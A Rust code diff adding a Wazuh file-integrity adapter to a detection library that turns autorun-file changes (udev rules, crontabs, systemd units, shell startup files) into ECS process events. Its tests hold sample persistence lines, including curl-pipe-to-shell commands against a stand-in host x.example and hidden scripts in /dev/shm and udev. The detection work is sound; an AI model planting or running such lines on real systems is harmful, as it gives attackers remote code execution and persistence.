@@ -1,13 +1,14 @@
 //! More endpoint products' alert shapes, mapped onto ECS with the same helpers as `edr`:
 //! Trellix (FireEye) HX alerts, Uptycs alerts, Cybereason process queries, Carbon Black EDR
-//! (Response) forwarder events and Aqua Tracee events. Each adapter recognises its shape by fields no other shape has
+//! (Response) forwarder events, Aqua Tracee events, and Wazuh file-integrity alerts of files
+//! that run commands. Each adapter recognises its shape by fields no other shape has
 //! together and returns `None` otherwise.
 
 use super::edr::{
     finish, mtext, process_columns, put_process, set_techniques, set_user, shell_join, text,
     with_branches,
 };
-use super::{s, set_path};
+use super::{basename_of, cron_job, program, s, set_path};
 use serde_json::{Map, Value as Json, json};
 
 /// Trellix (FireEye) HX alerts (`/hx/api/v3/alerts`): the event that matched is under
@@ -522,6 +523,137 @@ pub(super) fn tracee(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Opti
     Some((e, None))
 }
 
+/// Wazuh file-integrity alerts (`syscheck`, with `report_changes`) of a file that makes the
+/// system run a command: a udev rule's `RUN+=`, a crontab line, a systemd unit's `ExecStart=`,
+/// a shell startup file or `rc.local`. The entry is judged as the command it will run (like
+/// osquery's persistence rows); the file is `file.path`, and the process that wrote it (who-data
+/// `audit.process`) is kept as `process.parent.parent`. Other files' changes are not process
+/// events and are left to the other readers.
+pub(super) fn wazuh_syscheck(
+    obj: &Map<String, Json>,
+) -> Option<(Map<String, Json>, Option<String>)> {
+    let fim = obj.get("syscheck")?;
+    let path = text(fim, "path")?;
+    let diff = text(fim, "diff")?;
+    // Lines the change added: `> x` (diff's normal format) or `+x` (unified).
+    let added: Vec<&str> = diff
+        .lines()
+        .filter_map(|l| {
+            l.strip_prefix("> ")
+                .or_else(|| l.strip_prefix('+').filter(|r| !r.starts_with("++")))
+        })
+        .map(str::trim)
+        .filter(|l| !l.is_empty() && !l.starts_with('#'))
+        .collect();
+    if added.is_empty() {
+        return None;
+    }
+    let owner = path
+        .strip_prefix("/home/")
+        .and_then(|r| r.split('/').next())
+        .or(path.starts_with("/root/").then_some("root"));
+    let name = basename_of(path);
+    let mut e = Map::new();
+    let runs = |e: &mut Map<String, Json>, cmd: &str, parent: &str, user: Option<&str>| {
+        set_path(e, "process.name", s(basename_of(program(cmd))));
+        set_path(e, "process.command_line", s(cmd));
+        set_path(e, "process.parent.name", s(parent));
+        if let Some(u) = user {
+            set_path(e, "user.name", s(u));
+        }
+    };
+    if path.contains("/udev/rules.d/") {
+        // RUN+="cmd" / RUN="cmd" / PROGRAM="cmd", run by udevd as root.
+        let cmds: Vec<&str> = added
+            .iter()
+            .flat_map(|l| l.split(','))
+            .filter_map(|kv| {
+                let (k, v) = kv.split_once('=')?;
+                let k = k.trim().trim_end_matches('+');
+                matches!(k, "RUN" | "PROGRAM").then(|| v.trim().trim_matches('"'))
+            })
+            .collect();
+        if cmds.is_empty() {
+            return None;
+        }
+        runs(&mut e, &cmds.join("\n"), "systemd-udevd", Some("root"));
+    } else if path == "/etc/crontab"
+        || path.starts_with("/etc/cron.d/")
+        || path.contains("/spool/cron/")
+    {
+        let system = !path.contains("/spool/cron/");
+        let line = added.iter().find(|l| !l.contains('=') || l.contains(' '))?;
+        // Five schedule fields (or an @keyword), then, in a system crontab, the user.
+        let mut rest = line.trim_start();
+        let fields = if rest.starts_with('@') { 1 } else { 5 };
+        for _ in 0..fields {
+            rest = rest.split_once(char::is_whitespace)?.1.trim_start();
+        }
+        let (user, cmd) = if system {
+            let (u, c) = rest.split_once(char::is_whitespace)?;
+            (Some(u.to_owned()), c.trim_start())
+        } else {
+            (Some(name.to_owned()), rest)
+        };
+        cron_job(&mut e, cmd, user.map(Json::String));
+    } else if path.contains("/systemd/") && (path.ends_with(".service") || path.ends_with(".timer"))
+    {
+        let key = |k: &str| {
+            added.iter().find_map(|l| {
+                l.strip_prefix(k)
+                    .map(|v| v.trim_start_matches(['-', '@', '+', '!']))
+            })
+        };
+        let cmd = key("ExecStart=").or_else(|| key("ExecStartPre="))?;
+        runs(&mut e, cmd, "systemd", Some(key("User=").unwrap_or("root")));
+    } else if [
+        ".bashrc",
+        ".bash_profile",
+        ".profile",
+        ".zshrc",
+        ".zprofile",
+        ".zshenv",
+        "rc.local",
+    ]
+    .contains(&name)
+        || path.starts_with("/etc/profile.d/")
+        || path == "/etc/profile"
+        || path == "/etc/bash.bashrc"
+    {
+        let shell = if name.starts_with(".z") {
+            "zsh"
+        } else {
+            "bash"
+        };
+        runs(&mut e, &added.join("\n"), shell, owner.or(Some("root")));
+    } else {
+        return None;
+    }
+    set_path(&mut e, "file.path", s(path));
+    if let Some(w) = fim.get("audit") {
+        if let Some(p) = w.get("process").and_then(|p| text(p, "name")) {
+            set_path(&mut e, "process.parent.parent.executable", s(p));
+            set_path(&mut e, "process.parent.parent.name", s(basename_of(p)));
+        }
+        if let Some(u) = w.get("login_user").and_then(|u| text(u, "name")) {
+            set_path(&mut e, "user.changes.name", s(u));
+        }
+    }
+    if let Some(h) = obj.get("agent").and_then(|a| text(a, "name")) {
+        set_path(&mut e, "host.name", s(h));
+    }
+    set_path(&mut e, "host.os.type", s("linux"));
+    if let Some(t) = mtext(obj, "timestamp") {
+        e.insert("@timestamp".into(), s(t));
+    }
+    if let Some(d) = obj.get("rule").and_then(|r| text(r, "description")) {
+        set_path(&mut e, "rule.name", s(d));
+    }
+    let id = mtext(obj, "id").map(str::to_owned);
+    finish(&mut e, "wazuh_fim", "wazuh", Json::Object(obj.clone()));
+    Some((e, id))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -741,5 +873,51 @@ mod tests {
         let (e, _) = tracee(x.as_object().unwrap()).unwrap();
         assert_eq!(str_at(&e, "process.command_line"), "sh -c 'id; uname -a'");
         assert_eq!(str_at(&e, "user.name"), "root");
+    }
+    #[test]
+    fn wazuh_file_integrity_of_autorun_files_is_the_command_they_run() {
+        let a = json!({"id": "1730.9", "agent": {"name": "db-2"}, "rule": {"description": "File added to the system."},
+            "syscheck": {"path": "/etc/udev/rules.d/75-usb.rules", "event": "added",
+                "diff": "0a1,2\n> # helper\n> ACTION==\"add\", KERNEL==\"random\", RUN+=\"/bin/sh -c '/usr/bin/at -M now -f /usr/lib/udev/.cache/x.sh'\"\n",
+                "audit": {"login_user": {"name": "opsadmin"}, "process": {"name": "/usr/bin/tee"}}}});
+        let (e, id) = wazuh_syscheck(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("1730.9"));
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "/bin/sh -c '/usr/bin/at -M now -f /usr/lib/udev/.cache/x.sh'"
+        );
+        assert_eq!(str_at(&e, "process.name"), "sh");
+        assert_eq!(str_at(&e, "process.parent.name"), "systemd-udevd");
+        assert_eq!(str_at(&e, "process.parent.parent.name"), "tee");
+        assert_eq!(str_at(&e, "user.name"), "root");
+        assert_eq!(str_at(&e, "file.path"), "/etc/udev/rules.d/75-usb.rules");
+        assert_eq!(str_at(&e, "host.name"), "db-2");
+        // A system crontab line runs as its user; a user's crontab as its owner.
+        let c = json!({"syscheck": {"path": "/etc/cron.d/sync", "diff": "> */5 * * * * root curl -s http://x.example/a | sh\n"}});
+        let (e, _) = wazuh_syscheck(c.as_object().unwrap()).unwrap();
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "/bin/sh -c curl -s http://x.example/a | sh"
+        );
+        assert_eq!(str_at(&e, "user.name"), "root");
+        let u = json!({"syscheck": {"path": "/var/spool/cron/crontabs/www-data", "diff": "+@reboot /tmp/.x/run\n"}});
+        let (e, _) = wazuh_syscheck(u.as_object().unwrap()).unwrap();
+        assert_eq!(str_at(&e, "process.command_line"), "/bin/sh -c /tmp/.x/run");
+        assert_eq!(str_at(&e, "user.name"), "www-data");
+        // A systemd unit's ExecStart, as its User.
+        let sd = json!({"syscheck": {"path": "/etc/systemd/system/upd.service", "diff": "> [Service]\n> User=nobody\n> ExecStart=/dev/shm/.u -c 1\n"}});
+        let (e, _) = wazuh_syscheck(sd.as_object().unwrap()).unwrap();
+        assert_eq!(str_at(&e, "process.command_line"), "/dev/shm/.u -c 1");
+        assert_eq!(str_at(&e, "user.name"), "nobody");
+        // A shell startup file: the added lines, as the home's owner.
+        let rc = json!({"syscheck": {"path": "/home/ann/.bashrc", "diff": "> alias ll='ls -l'\n> (curl -s http://x.example/k | bash &) 2>/dev/null\n"}});
+        let (e, _) = wazuh_syscheck(rc.as_object().unwrap()).unwrap();
+        assert!(str_at(&e, "process.command_line").contains("curl -s http://x.example/k | bash"));
+        assert_eq!(str_at(&e, "user.name"), "ann");
+        // Any other file, or no diff: not a process event.
+        let other = json!({"syscheck": {"path": "/etc/hosts", "diff": "> 10.0.0.1 a\n"}});
+        assert!(wazuh_syscheck(other.as_object().unwrap()).is_none());
+        let nodiff = json!({"syscheck": {"path": "/etc/cron.d/x"}});
+        assert!(wazuh_syscheck(nodiff.as_object().unwrap()).is_none());
     }
 }
